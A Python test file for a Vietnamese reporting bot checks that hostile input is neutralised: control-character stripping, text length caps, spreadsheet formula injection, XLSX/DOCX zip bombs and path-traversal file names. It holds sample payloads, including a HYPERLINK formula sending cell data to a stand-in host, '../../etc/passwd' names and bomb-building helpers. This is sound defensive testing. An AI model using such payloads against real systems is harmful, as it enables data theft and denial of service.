"""Hostile input (issue 11): control characters stripped at every boundary,
free text capped where it is read, user text never a live formula in an XLSX
the bot writes, uploaded XLSX/DOCX checked before they are parsed and parsed
off the event loop under a time limit."""

from __future__ import annotations

import asyncio
import csv
import time
import zipfile
from dataclasses import replace
from datetime import datetime, timedelta
from pathlib import Path

import pytest
import xlsxwriter
from openpyxl import Workbook, load_workbook
from sqlalchemy import func, select

from bot.cli import App, build_parser, main
from bot.simulate import Simulator
from bot.wiring import build_core
from domain.clock import FixedClock
from domain.messages import Inbound, IncomingFile
from services.importers.people_file import import_people
from services.importers.plan_file import parse_plan_file
from services.status_form import write_form
from services.texts import say
from storage.conversations import create_invite
from storage.models import Person, Plan, StatusUpdate, Task
from storage.plans import import_plan
from storage.tasks import add_update, current_plan, task_views
from tests.conftest import VN
from tests.report_fixture import HEADER, ROWS

ROOT = Path(__file__).resolve().parents[1]
START = datetime(2026, 4, 15, 9, 0, tzinfo=VN)
DIRTY = "\x00\x01\x1b\x7f\x85\u202e\u2066\ud800\ufeff"  # none of these may be stored


class Chat:
    def __init__(self, app):
        self.clock = FixedClock(START)
        self.sim = Simulator(build_core(App(app.settings, app.sessions, self.clock)), self.clock, VN)

    async def say(self, user: str, text: str = "", **extra):
        return await self.sim.step({"user": user, "text": text, **extra})


async def updates(app) -> list[tuple[str, StatusUpdate]]:
    async with app.sessions() as session:
        rows = await session.execute(select(Task.code, StatusUpdate).join(Task).order_by(StatusUpdate.id))
        return [tuple(row) for row in rows]


async def update_count(app) -> int:
    async with app.sessions() as session:
        return await session.scalar(select(func.count(StatusUpdate.id)))


# --- 1. control characters, at every boundary ------------------------------------------------------


def test_every_inbound_event_is_cleaned_when_it_is_made():
    event = Inbound(
        platform="zalo", chat_id="42\x00", user_id="7\u202e", at=START,
        text="I.2\x00 đang\x1b thực hiện\r\n40%\u202e\ud800\x85\x7f\tx\ry", display_name="Mai\x00 Anh\u2066\n" + "a" * 300,
        option="t:I.2\x00", file=IncomingFile(Path("/tmp/f"), "bieu\x00.xlsx", 1),
    )
    assert event.text == "I.2 đang thực hiện\n40%\tx\ny"
    assert (event.chat_id, event.user_id, event.option, event.file.name) == ("42", "7", "t:I.2", "bieu.xlsx")
    assert event.display_name.startswith("Mai Anh a") and len(event.display_name) == 200
    assert replace(event, text="a\x00b").text == "ab"  # the adapters' copies too


async def test_nul_laden_messages_are_stored_clean_and_answered(org_app):
    """A NUL raises on PostgreSQL: in a quick report, a form answer or a display name it must never get there."""
    chat = Chat(org_app)
    [reply] = await chat.say("canbo", f"I.2 đang thực hiện 40%, chờ{DIRTY} ý kiến của Sở")
    assert reply.text.startswith("Đã ghi báo cáo")
    await chat.say("canbo", "/baocao I.2")
    await chat.say("canbo", "Gặp vướng mắc")
    await chat.say("canbo", f"Thiếu{DIRTY} kinh phí")
    [done, *_] = await chat.say("canbo", "", choose="Xác nhận")
    assert done.text.startswith("Đã ghi báo cáo")
    (_, first), (_, second) = await updates(org_app)
    assert first.note == "chờ ý kiến của Sở" and second.note == "Thiếu kinh phí"

    async with org_app.sessions() as session, session.begin():
        invite = await create_invite(session, unit_id=None, role="officer", uses=1, expires_at=START + timedelta(days=7),
                                     created_by=None, now=START)
    [welcome] = await chat.say("moi", f"/start {invite.code}", name=f"Đinh{DIRTY} Văn Mới")
    assert "Xin chào Đinh Văn Mới" in welcome.text
    async with org_app.sessions() as session:
        assert await session.scalar(select(Person.name).where(Person.name.like("Đinh%"))) == "Đinh Văn Mới"


async def test_command_line_text_is_cleaned(org_app, capsys):
    args = build_parser().parse_args(["status", "set", "I.2", "done", "--by", "canbo", "--note", f"Xong{DIRTY} rồi",
                                      "--evidence", f"KH{DIRTY} 181"])
    assert await args.run(org_app, args) == 0
    [(_, update)] = await updates(org_app)
    assert (update.note, update.evidence) == ("Xong rồi", "KH 181")


async def test_import_cells_are_cleaned(app, tmp_path):
    """A plan CSV with a NUL in a cell, an XLSX with C1 and bidi controls, a people file: all stored clean."""
    rows = [list(r) for r in ROWS]
    rows[1][1] = f"Tuyên truyền{DIRTY.replace(chr(0xd800), '')} công tác CCHC"
    rows[2][3] = "Phòng Hành chính\x00 – Quản trị"
    path = tmp_path / "ke_hoach.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows([HEADER, *rows])
    parsed = parse_plan_file(path, plan_year=2026, plan_name="Kế hoạch\x00 2026")
    async with app.sessions() as session, session.begin():
        await import_plan(session, parsed, path.name, START, say)
    async with app.sessions() as session:
        plan = await session.scalar(select(Plan))
        assert plan.name == "Kế hoạch 2026"
        contents = {t.code: t.content for t in await session.scalars(select(Task))}
        assert contents["I.1"] == "Tuyên truyền công tác CCHC"
        views = {v.task.code: v for v in await task_views(session, plan)}
        assert views["I.2"].lead == ["Phòng Hành chính – Quản trị"]

    people = tmp_path / "people.xlsx"
    workbook = xlsxwriter.Workbook(str(people))
    sheet = workbook.add_worksheet()
    sheet.write_row(0, 0, ["Họ tên", "Đơn vị", "Vai trò", "Nền tảng", "Mã người dùng"])
    sheet.write_row(1, 0, ["Lê\x85 Thị\u202e Mai Anh", "", "cán bộ", "console", "canbo\u2066"])
    workbook.close()
    async with app.sessions() as session, session.begin():
        await import_people(session, people)
    async with app.sessions() as session:
        person = await session.scalar(select(Person))
        await session.refresh(person, ["identities"])
        assert person.name == "Lê Thị Mai Anh" and person.identities[0].external_id == "canbo"


async def _form(app, tmp_path) -> Path:
    async with app.sessions() as session:
        views = await task_views(session, await current_plan(session))
    return write_form(views, tmp_path / "bieu.xlsx", unit=None, today=START.date())


def _fill(path: Path, rows: dict[str, list]) -> Path:
    workbook = load_workbook(path)
    for row in workbook.active.iter_rows(min_row=5):
        if row[0].value in rows:
            for offset, value in enumerate(rows[row[0].value]):
                row[6 + offset].value = value
    workbook.save(path)
    return path


async def test_status_form_cells_are_cleaned(org_app, tmp_path):
    path = _fill(await _form(org_app, tmp_path), {"I.2": ["Gặp vướng mắc", None, None, None, "Chờ\x85 ý kiến\u202e Sở"]})
    [reply, *_] = await Chat(org_app).say("quantri", file=str(path))
    assert reply.text.startswith("Đã ghi 01 cập nhật")
    [(_, update)] = await updates(org_app)
    assert update.note == "Chờ ý kiến Sở"


# --- 2. free text capped where it is read -------------------------------------------------------


async def test_a_long_quick_report_is_refused_with_the_limit(org_app):
    chat = Chat(org_app)
    [refused] = await chat.say("canbo", "I.2 gặp vướng mắc " + "chưa có kinh phí " * 200)
    assert refused.text == ("Báo cáo chưa được ghi: vướng mắc dài 3.399 ký tự, tối đa 2.000 ký tự. "
                            "Hãy rút gọn rồi gửi lại, hoặc gõ /baocao để báo cáo từng bước.")
    [refused] = await chat.say("canbo", "I.2 hoàn thành " + "Kế hoạch số 181 " * 70)
    assert "tài liệu kiểm chứng dài 1.119 ký tự, tối đa 1.000 ký tự" in refused.text
    assert await update_count(org_app) == 0
    [saved, *alerts] = await chat.say("canbo", "I.2 gặp vướng mắc " + "x" * 2000)
    assert saved.text.startswith("Đã ghi báo cáo") and alerts


async def test_a_message_over_the_limit_is_refused_before_it_is_read(org_app):
    chat = Chat(org_app)
    [refused] = await chat.say("canbo", "I.2 đang thực hiện 40% " + "a" * 4000)
    assert refused.text == "Tin nhắn quá dài (4.023 ký tự): bot chỉ đọc tin nhắn đến 4.000 ký tự. Hãy rút gọn rồi gửi lại."
    assert await update_count(org_app) == 0


async def test_the_guided_form_asks_again_when_a_text_is_too_long(org_app, tmp_path):
    chat = Chat(org_app)
    await chat.say("canbo", "/baocao I.2")
    await chat.say("canbo", "Hoàn thành")
    evidence = tmp_path / "kh.pdf"
    evidence.write_bytes(b"%PDF-1.4")
    [again] = await chat.say("canbo", "x" * 1001, file=str(evidence))  # a file's caption is capped too
    assert again.text.startswith("Nội dung quá dài: tối đa 1000 ký tự.")


# --- 3. formula injection ------------------------------------------------------------------------

INJECTED = ['=HYPERLINK("http://x.example/?"&A1,"Bấm")', "+1+2", "-3+4", "@SUM(A1)", "\t=1+1", "\r=2+2"]


async def test_export_form_writes_user_text_as_text(org_app, tmp_path):
    async with org_app.sessions() as session, session.begin():
        tasks = {t.code: t for t in await session.scalars(select(Task))}
        for code, text in zip(["I.1", "I.2", "I.3", "II.1", "II.2", "II.3"], INJECTED):
            tasks[code].content = text
        tasks["I.1"].evidence = "=1+2"
    path = await _form(org_app, tmp_path)
    ws = load_workbook(path).active
    written = {row[0].value: row for row in ws.iter_rows(min_row=5) if row[0].value in tasks}
    for code, text in zip(["I.1", "I.2", "I.3", "II.1", "II.2", "II.3"], INJECTED):
        cell = written[code][1]
        assert cell.data_type == "s" and cell.quotePrefix, (code, cell.value)
        assert cell.value.strip() == text.strip()
    assert written["I.1"][2].data_type == "s" and written["I.1"][2].value == "=1+2"
    raw = zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in raw


async def test_report_xlsx_writes_user_text_with_write_string(planned_report, tmp_path, monkeypatch):
    from xlsxwriter.worksheet import Worksheet

    from domain.periods import CALENDAR
    from domain.report_periods import parse_period_text
    from services.reports import write_report

    def no_formula(*args, **kwargs):
        raise AssertionError("a formula was written")

    monkeypatch.setattr(Worksheet, "write_formula", no_formula)
    monkeypatch.setattr(Worksheet, "write_array_formula", no_formula)
    app = planned_report
    path = tmp_path / "bc.xlsx"
    async with app.sessions() as session:
        plan = await current_plan(session)
        await write_report(session, plan, parse_period_text("quý II/2026", CALENDAR), "xlsx", path, zone=VN,
                           now=datetime(2026, 6, 30, 17, tzinfo=VN), mode=CALENDAR)
    ws = load_workbook(path)["Phụ lục"]
    cells = {cell.value: cell for row in ws.iter_rows() for cell in row if cell.value is not None}
    for text in INJECTED[:4] + ["=1+2"]:
        assert text in cells and cells[text].data_type == "s", text
    budget = next(cell for row in ws.iter_rows() for cell in row if cell.value == -5000)
    assert budget.data_type == "n"  # a negative number stays a number


@pytest.fixture
async def planned_report(app, tmp_path):
    from tests.report_fixture import load_fixture

    await load_fixture(app, tmp_path)
    async with app.sessions() as session, session.begin():
        tasks = {t.code: t for t in await session.scalars(select(Task))}
        for code, text in zip(["I.2", "I.3", "II.1", "II.2"], INJECTED):
            tasks[code].content = text
        tasks["III.2"].budget_vnd = -5000
        reporter = await session.scalar(select(Person).where(Person.name == "Phạm Văn Bình"))
        await add_update(session, tasks["III.2"], status="stuck", at=datetime(2026, 5, 2, 9, tzinfo=VN), source="console",
                         reporter=reporter, note="=1+2")
    return app


# --- 4. uploaded XLSX/DOCX checked before they are parsed, and parsed off the event loop -----------


def _rewrite(source: Path, out: Path, member: str, write_part) -> Path:
    """A copy of an Office file with one part replaced by what `write_part(stream)` writes."""
    with zipfile.ZipFile(source) as original, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as copy:
        for info in original.infolist():
            if info.filename != member:
                copy.writestr(info, original.read(info))
        with copy.open(member, "w", force_zip64=True) as stream:
            write_part(stream)
    return out


def _sheet(chunks):
    head = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet '
            b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>')

    def write(stream):
        stream.write(head)
        for chunk in chunks:
            stream.write(chunk)
        stream.write(b"</sheetData></worksheet>")

    return write


def xlsx_bomb(tmp_path: Path, name: str, rows: bytes, repeat: int, chunks=None) -> Path:
    """A valid XLSX whose sheet is `rows` written `repeat` times (or the given chunks)."""
    base = tmp_path / "base.xlsx"
    workbook = Workbook()
    workbook.active["A1"] = "Mã"
    workbook.save(base)
    return _rewrite(base, tmp_path / name, "xl/worksheets/sheet1.xml", _sheet(chunks or [rows] * repeat))


ROW = b'<row><c t="inlineStr"><is><t>I.2</t></is></c><c t="inlineStr"><is><t>Ho\xc3\xa0n th\xc3\xa0nh</t></is></c></row>'


async def test_an_xlsx_zip_bomb_in_chat_is_refused_at_once(org_app, tmp_path):
    bomb = xlsx_bomb(tmp_path, "bieu.xlsx", ROW * 1000, 700)  # ~70 MB of sheet XML in well under 1 MB
    assert bomb.stat().st_size < 1_000_000
    started = time.monotonic()
    [reply] = await Chat(org_app).say("quantri", file=str(bomb))
    assert time.monotonic() - started < 3
    assert reply.text == ("Tệp bieu.xlsx khi giải nén lớn hơn 50 MB: bot không đọc tệp này, không có gì được ghi. "
                          "Hãy gửi tệp nhỏ hơn.")
    assert await update_count(org_app) == 0


@pytest.mark.parametrize("kind", ["rows", "ratio", "members"])
async def test_other_unsafe_xlsx_are_refused(org_app, tmp_path, kind):
    if kind == "rows":  # 25,000 short rows, each its own: small unpacked, but more rows than a sheet may have
        rows = (f'<row r="{n}"><c r="A{n}" t="inlineStr"><is><t>{n * 7919 % 100003:x}</t></is></c></row>'.encode()
                for n in range(1, 25_001))
        bomb = xlsx_bomb(tmp_path, "bieu.xlsx", b"", 0, chunks=rows)
        expected = "Tệp bieu.xlsx có hơn 20.000 dòng trong một bảng: bot không đọc tệp này, không có gì được ghi. Hãy tách thành tệp nhỏ hơn."
    elif kind == "ratio":  # one cell of 8 MB of one letter: under the size cap, compressed a thousand times
        bomb = xlsx_bomb(tmp_path, "bieu.xlsx", b'<row><c t="inlineStr"><is><t>' + b"a" * 8_000_000 + b"</t></is></c></row>", 1)
        expected = "Tệp bieu.xlsx có cấu trúc bất thường (nén quá mức hoặc quá nhiều thành phần): bot không đọc tệp này, không có gì được ghi."
    else:
        bomb = xlsx_bomb(tmp_path, "bieu.xlsx", ROW, 1)
        with zipfile.ZipFile(bomb, "a") as archive:
            for number in range(3000):
                archive.writestr(f"xl/media/x{number}.bin", b"")
        expected = "Tệp bieu.xlsx có cấu trúc bất thường (nén quá mức hoặc quá nhiều thành phần): bot không đọc tệp này, không có gì được ghi."
    [reply] = await Chat(org_app).say("quantri", file=str(bomb))
    assert reply.text == expected
    assert await update_count(org_app) == 0


def test_zip_bombs_on_the_command_line_exit_1_and_write_nothing(tmp_path, monkeypatch, capsys):
    monkeypatch.setenv("DATABASE_URL", f"sqlite+aiosqlite:///{tmp_path / 't.db'}")
    monkeypatch.chdir(tmp_path)
    docx = _rewrite(ROOT / "sample" / "plan_2026.docx", tmp_path / "ke_hoach.docx", "word/document.xml",
                    _document(b"<w:p><w:r><w:t>" + b"CCHC " * 2000 + b"</w:t></w:r></w:p>", 6000))
    xlsx = xlsx_bomb(tmp_path, "ke_hoach.xlsx", ROW * 1000, 700)
    for bomb in (docx, xlsx):
        started = time.monotonic()
        assert main(["import", str(bomb), "--plan-year", "2026"]) == 1
        assert time.monotonic() - started < 5
        err = capsys.readouterr().err
        assert err == f"Tệp {bomb.name} khi giải nén lớn hơn 50 MB: bot không đọc tệp này, không có gì được ghi. Hãy gửi tệp nhỏ hơn.\n"
    assert main(["tasks"]) == 1
    assert capsys.readouterr().err.startswith("Chưa có kế hoạch nào.")


def _document(paragraph: bytes, repeat: int):
    head = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:document '
            b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>')

    def write(stream):
        stream.write(head)
        for _ in range(repeat):
            stream.write(paragraph)
        stream.write(b"</w:body></w:document>")

    return write


def big_form(path: Path, rows: int) -> Path:
    """A legal status form with many rows and nothing filled: slow to read, nothing to import."""
    workbook = xlsxwriter.Workbook(str(path), {"constant_memory": True})
    sheet = workbook.add_worksheet()
    sheet.write_row(0, 0, ["Mã", "Nội dung", "Trạng thái cập nhật", "Ghi chú"] + [f"Cột {n}" for n in range(7)])
    for row in range(1, rows + 1):
        sheet.write_row(row, 0, [f"I.{row}", f"Nội dung nhiệm vụ số {row}", None, None] + [f"c{row}"] * 7)
    workbook.close()
    return path


async def test_a_large_file_is_parsed_off_the_event_loop(org_app, tmp_path):
    path = big_form(tmp_path / "bieu.xlsx", 3000)
    chat = Chat(org_app)
    lateness, done = [], asyncio.Event()

    async def ticker():
        while not done.is_set():
            before = time.monotonic()
            await asyncio.sleep(0.05)
            lateness.append(time.monotonic() - before - 0.05)

    async def upload():
        try:
            return await chat.say("quantri", file=str(path))
        finally:
            done.set()

    async def other_user():
        await asyncio.sleep(0.1)
        reply = await chat.say("canbo", "/help")
        return reply, done.is_set()

    tick = asyncio.create_task(ticker())
    [imported], (helped, upload_finished_first) = await asyncio.gather(upload(), other_user())
    await tick
    assert imported.text == "Tệp không có dòng nào được điền trạng thái: không có gì để ghi."
    assert helped[0].text and not upload_finished_first  # answered while the file was still being read
    # Parsed inline, the loop would stand still for the whole parse and the other user
    # would be answered after it (asserted above). In a thread the loop only waits for
    # the GIL: short gaps, longer on a loaded machine.
    assert max(lateness) < 1.5, max(lateness)


async def test_parsing_stops_at_the_time_limit(org_app, tmp_path):
    path = big_form(tmp_path / "bieu.xlsx", 6000)
    org_app.settings.file_parse_seconds = 0.2
    started = time.monotonic()
    [reply] = await Chat(org_app).say("quantri", file=str(path))
    assert time.monotonic() - started < 3  # the whole file takes several times longer; loaded CI machines are slow
    assert reply.text == ("Đọc tệp bieu.xlsx mất quá 0,2 giây nên bot đã dừng: không có gì được ghi. "
                          "Hãy tách thành tệp nhỏ hơn.")
    assert await update_count(org_app) == 0


@pytest.mark.parametrize("hostile", ["..", ".", "../../etc/passwd", "a/..", "..\\..\\boot.ini", "/", ""])
def test_a_hostile_file_name_is_stored_as_a_file_inside_the_folder(tmp_path, hostile):
    from storage.files import file_path, store_file

    source = tmp_path / "upload.bin"
    source.write_bytes(b"evidence")
    files_dir = tmp_path / "files"
    ref = store_file(files_dir, source, hostile)
    stored = file_path(files_dir, ref)
    assert stored.is_file() and stored.read_bytes() == b"evidence"
    assert files_dir.resolve() in stored.parents and stored.parent.parent == files_dir.resolve()
